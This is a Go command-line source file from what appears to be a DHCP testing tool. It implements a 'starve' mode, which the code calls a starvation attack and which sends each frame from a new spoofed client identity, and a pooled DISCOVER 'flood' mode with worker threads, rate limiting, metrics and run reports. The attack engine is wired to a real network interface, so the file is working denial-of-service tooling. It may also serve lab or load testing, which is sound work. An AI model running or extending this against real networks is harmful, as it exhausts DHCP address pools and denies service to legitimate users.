package cmd

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"log/slog"
	"strings"
	"time"

	"github.com/AdguardTeam/golibs/errors"
	"github.com/AdguardTeam/golibs/logutil/slogutil"
	"github.com/AdguardTeam/golibs/timeutil"
	"github.com/netlab/dhcpsim/internal/agh"
	"github.com/netlab/dhcpsim/internal/flood"
	"github.com/netlab/dhcpsim/internal/ident"
	"github.com/netlab/dhcpsim/internal/metrics"
	"github.com/netlab/dhcpsim/internal/netdev"
	"github.com/netlab/dhcpsim/internal/ratemon"
	"github.com/prometheus/client_golang/prometheus"
	"golang.org/x/time/rate"
)

// Flood modes.
const (
	modeStarve = "starve"
	modeFlood  = "flood"
)

// runStarve performs the starvation attack: every frame is sent from a new
// client.
func runStarve(ctx context.Context, l *slog.Logger, opts *options, env *environment) (err error) {
	return runFloodMode(ctx, l, opts, env, modeStarve)
}

// runFlood performs the pooled flood.  It runs until interrupted, the
// duration elapses, or Enter is pressed.
func runFlood(ctx context.Context, l *slog.Logger, opts *options, env *environment) (err error) {
	var cancel context.CancelFunc
	ctx, cancel = context.WithCancel(ctx)
	defer cancel()

	go stopOnEnter(ctx, l, env.stdin, cancel)

	return runFloodMode(ctx, l, opts, env, modeFlood)
}

// runFloodMode opens the interface and runs the flood engine configured from
// opts.
func runFloodMode(
	ctx context.Context,
	l *slog.Logger,
	opts *options,
	env *environment,
	mode string,
) (err error) {
	oui, err := parseOUI(opts.oui)
	if err != nil {
		// Don't wrap the error, since it's informative enough as is.
		return err
	}

	dev, err := netdev.Open(&netdev.Config{
		Interface: opts.iface,
	})
	if err != nil {
		return fmt.Errorf("opening interface: %w", err)
	}
	defer func() { err = errors.WithDeferred(err, dev.Close()) }()

	ids, err := ident.New(&ident.Config{OUI: oui})
	if err != nil {
		return fmt.Errorf("creating identity pool: %w", err)
	}

	// Never impersonate the host itself.
	err = ids.Reserve(dev.HardwareAddr())
	if err != nil {
		l.WarnContext(ctx, "reserving own address", slogutil.KeyError, err)
	}

	size := opts.poolSize
	if size <= 0 {
		size = opts.threads
	}

	pool, err := flood.NewPacketPool(ctx, size, ids, flood.DiscoverBuilder)
	if err != nil {
		return fmt.Errorf("creating packet pool: %w", err)
	}

	reg := prometheus.NewRegistry()
	m, err := metrics.NewFlood(metrics.Namespace, reg)
	if err != nil {
		return fmt.Errorf("creating metrics: %w", err)
	}

	counter := &ratemon.Counter{}
	engine, err := flood.NewEngine(&flood.EngineConfig{
		Logger:             l,
		Clock:              timeutil.SystemClock{},
		Pool:               pool,
		Sender:             dev,
		Counter:            counter,
		Limiter:            newLimiter(opts.rps, opts.threads),
		Metrics:            m,
		Workers:            opts.threads,
		Duration:           time.Duration(opts.duration) * time.Second,
		Delay:              opts.delay,
		RefreshProbability: opts.refresh,
	})
	if err != nil {
		return fmt.Errorf("creating engine: %w", err)
	}

	l.InfoContext(
		ctx,
		"target",
		"mode", mode,
		"interface", opts.iface,
		"server", opts.server,
		"network", opts.network,
	)

	metricsSrv := newMetricsServer(l, reg, opts)
	err = metricsSrv.Start(ctx)
	if err != nil {
		return fmt.Errorf("starting metrics server: %w", err)
	}
	defer func() { err = errors.WithDeferred(err, shutdown(ctx, metricsSrv)) }()

	rep, err := runWithMonitor(ctx, l, engine, counter, env.stdout)

	_, _ = fmt.Fprintln(env.stdout, summaryLine(rep))

	if opts.reportFile != "" {
		werr := writeReport(opts.reportFile, newRunReport(mode, opts, rep))
		if werr != nil {
			l.ErrorContext(ctx, "writing report", slogutil.KeyError, werr)
		}
	}

	return err
}

// runWithMonitor runs engine and prints a status line to w every second until
// the run is over.
func runWithMonitor(
	ctx context.Context,
	l *slog.Logger,
	engine *flood.Engine,
	counter *ratemon.Counter,
	w io.Writer,
) (rep *flood.Report, err error) {
	monCtx, monCancel := context.WithCancel(ctx)
	defer monCancel()

	mon := ratemon.New(&ratemon.Config{
		Logger:  l,
		Counter: counter,
		OnSample: func(_ context.Context, s ratemon.Sample) {
			_, _ = fmt.Fprintln(w, statusLine(s, engine.WorkerStats()))
		},
	})

	done := make(chan struct{})
	go func() {
		defer close(done)

		mon.Run(monCtx)
	}()

	rep, err = engine.Run(ctx)

	// Wait for the final sample.
	monCancel()
	<-done

	return rep, err
}

// newLimiter returns a limiter of rps events per second or nil if rps is not
// positive.
func newLimiter(rps float64, burst int) (l *rate.Limiter) {
	if rps <= 0 {
		return nil
	}

	return rate.NewLimiter(rate.Limit(rps), max(burst, 1))
}

// newMetricsServer returns the metrics server for the address from opts or an
// empty service if it's not set.
func newMetricsServer(l *slog.Logger, g prometheus.Gatherer, opts *options) (svc agh.Service) {
	if !opts.metricsAddr.IsValid() {
		return agh.EmptyService{}
	}

	return metrics.NewServer(&metrics.ServerConfig{
		Logger:   l.With(slogutil.KeyPrefix, "metrics"),
		Gatherer: g,
		Addr:     opts.metricsAddr,
		Timeout:  defaultTimeout,
	})
}

// shutdown shuts svc down using a separate timeout.
func shutdown(ctx context.Context, svc agh.Service) (err error) {
	ctx, cancel := ctxWithDefaultTimeout(ctx)
	defer cancel()

	return svc.Shutdown(ctx)
}

// stopOnEnter calls cancel when a line is read from r.  It returns when ctx is
// done or r is exhausted; in the latter case cancel isn't called.
func stopOnEnter(ctx context.Context, l *slog.Logger, r io.Reader, cancel context.CancelFunc) {
	defer slogutil.RecoverAndLog(ctx, l)

	lines := make(chan struct{})
	go func() {
		_, err := bufio.NewReader(r).ReadString('\n')
		if err == nil {
			close(lines)
		}
	}()

	select {
	case <-ctx.Done():
	case <-lines:
		l.InfoContext(ctx, "stopping on user request")
		cancel()
	}
}

// statusLine returns the status line for sample s and per-worker stats.
func statusLine(s ratemon.Sample, workers []flood.WorkerStats) (line string) {
	b := &strings.Builder{}
	_, _ = fmt.Fprintf(
		b,
		"Rate: %.0f pkt/s | Total: %d | Avg: %.1f pkt/s",
		s.InstantRate(),
		s.Total,
		s.AverageRate(),
	)

	if len(workers) > 0 {
		b.WriteString(" | Workers:")
		for _, w := range workers {
			_, _ = fmt.Fprintf(b, " %d=%d", w.ID, w.Sent)
		}
	}

	return b.String()
}

// summaryLine returns the final line for rep.
func summaryLine(rep *flood.Report) (line string) {
	return fmt.Sprintf(
		"Done: sent %d, failed %d in %s (%.1f pkt/s)",
		rep.Sent,
		rep.Failed,
		rep.Elapsed.Round(time.Millisecond),
		averageRate(rep),
	)
}

// averageRate returns the average number of sent frames per second in rep.
func averageRate(rep *flood.Report) (r float64) {
	secs := rep.Elapsed.Seconds()
	if secs <= 0 {
		return 0
	}

	return float64(rep.Sent) / secs
}
